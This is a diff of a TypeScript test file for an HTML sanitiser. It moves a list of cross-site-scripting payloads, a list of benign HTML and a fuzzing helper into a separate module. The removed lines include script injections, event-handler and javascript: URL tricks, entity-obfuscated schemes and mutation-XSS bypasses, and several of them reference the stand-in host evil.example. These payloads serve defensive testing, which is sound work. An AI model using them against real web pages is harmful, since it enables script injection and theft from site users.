@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { addressesIn, toHtml, toInlineHtml, toSimpleHtml } from '../../src/lib/html.ts'
 import { htmlToText } from '../../src/lib/text.ts'
+import { ATTACKS, KEPT, mixtures } from './hostile-html.ts'
 
 const VOID = ['br', 'col', 'hr', 'img', 'source', 'wbr']
 const DANGEROUS =
@@ -39,82 +40,6 @@ const faults = (html: string): string[] => {
   return found
 }
 
-const ATTACKS = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<script/x>alert(1)</script >',
-  '<script>alert(1)',
-  '<<script>alert(1)//<</script>',
-  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src=x onerror=alert(1)//',
-  '<img/src=x/onerror=alert(1)>',
-  '<img src="x"onerror="alert(1)">',
-  '<img src=`x`onerror=alert(1)>',
-  '<img src=x\nonerror\n=\nalert(1)>',
-  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<img title="</p><script>alert(1)</script>" src=x>',
-  '<img title=\'" onerror=alert(1) "\'>',
-  '<img alt="x&quot; onerror=alert(1) y=&quot;">',
-  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
-  '<img srcset="data:image/png;base64,AAAA 1x, javascript:alert(1) 2x">',
-  '<img src=javascript:alert(1) srcset=x.png>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=JaVaScRiPt:alert(1)>x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
-  '<a href="javascript&NewLine;:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114ipt:alert(1)">x</a>',
-  '<a href="&#x6A&#x61&#x76&#x61script&#x3A;alert(1)">x</a>',
-  '<a href="javascript&unknown;alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  `<a href="javascript:open('https://evil.example')">x</a>`,
-  '<q cite="javascript:alert(1)">x</q>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="x" href="javascript:alert(1)">x</a>',
-  "<a href=x onclick=alert(1) ONMOUSEOVER='alert(1)'>x</a>",
-  '<a id=globals name=globals href=x>x</a>',
-  '<a href=x ping=https://evil.example>x</a>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<div style="width: expression(alert(1))">x</div>',
-  '<div style="position:fixed;top:0;color:r\\65 d">x</div>',
-  '<div style="background&#58;url(//evil.example)">x</div>',
-  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
-  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<textarea><script>alert(1)</script></textarea>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src=javascript:alert(1)>',
-  '<object data=x><embed src=x></object><applet code=x>',
-  '<form action=javascript:alert(1)><input type=image formaction=x><button>go</button></form>',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><link rel=stylesheet href=x><base href=//evil>',
-  '<body onload=alert(1) background="javascript:alert(1)">x',
-  '<!--><script>alert(1)</script>-->',
-  '<!--->\n<img src=x onerror=alert(1)>-->',
-  '<!-- --!><img src=x onerror=alert(1)> -->',
-  '<!--[if IE]><script>alert(1)</script><![endif]-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "<script>">]>x',
-  '</p/onclick=alert(1)><//script>',
-  '<a href="x',
-  '<a title="<b>x</b>',
-  '<video src=javascript:alert(1) poster=data:x onerror=alert(1)><source src="data:x"></video>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<x-widget onclick=alert(1)>x</x-widget>',
-  '</div></div></table><td>x</td></body>',
-  '<b><p>one</b><i>two</p></i>',
-  '<table><tr><td><div>x</table>',
-]
-
 describe('hostile HTML', () => {
   it.each([
     '<script>x</script>',
@@ -139,14 +64,7 @@ describe('hostile HTML', () => {
   })
 
   it('is made safe in random mixtures of its parts, and the result is stable', () => {
-    const parts = ATTACKS.join('\n\n').match(/<\/?\w*|[\w:]+|\s+|[\s\S]/g) ?? []
-    let seed = 1
-    const random = (below: number) => {
-      seed = (seed * 48271) % 2147483647
-      return seed % below
-    }
-    for (let round = 0; round < 5000; round += 1) {
-      const html = Array.from({ length: random(30) }, () => parts[random(parts.length)]).join('')
+    for (const html of mixtures(5000)) {
       const clean = toHtml(html)
       expect(faults(clean), html).toEqual([])
       expect(toHtml(clean), html).toBe(clean)
@@ -175,22 +93,6 @@ describe('hostile HTML', () => {
     expect(toInlineHtml(given)).toBe(kept)
   })
 })
-
-const KEPT = [
-  '<p>Café &amp; Bar – “été”, コンサート 2027, مشاعرہ, 👨‍👩‍👧</p>',
-  '<p><a class="b" href="https://example.org/?a=1&amp;b=2#c" title="x">a</a> <a href="mailto:a@example.org">b</a></p>',
-  '<p><a href="tel:+4912">a</a> <a href="/x">b</a> <a href="#c">c</a> <a href="y.html?t=10:30">d</a></p>',
-  '<p><img class="alignleft" src="//example.org/a.png" alt="" width="720" height="398" ' +
-    'srcset="https://example.org/a,w_2.png 200w, b.png 2x" sizes="(max-width: 720px) 100vw, 720px" loading="lazy" /></p>',
-  '<h2 lang="ar" dir="rtl">x</h2>\n\n\n<hr />\n<ul>\n<li>a</li>\n<li>b<ol start="3"><li>c</li></ol></li>\n</ul>',
-  '<table class="t"><caption>x</caption><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
-  '<figure><video controls src="https://example.org/v.mp4"></video><figcaption>x</figcaption></figure>',
-  '<blockquote cite="https://example.org">x</blockquote>\n<pre>a\n\n  b</pre><div>a\n\nb</div>',
-  '<p><span style="color: red; text-align: center">x</span> <time datetime="2027-01-01">y</time></p>',
-  '<dl><dt>a</dt><dd>b</dd></dl><details open><summary>a</summary>b</details>',
-  '<a href="x"><div>a block in a link</div></a>',
-  '<p>a<br>b<wbr>c &lt; d</p>',
-]
 
 describe('what must get through', () => {
   it.each(KEPT)('%s', html => {
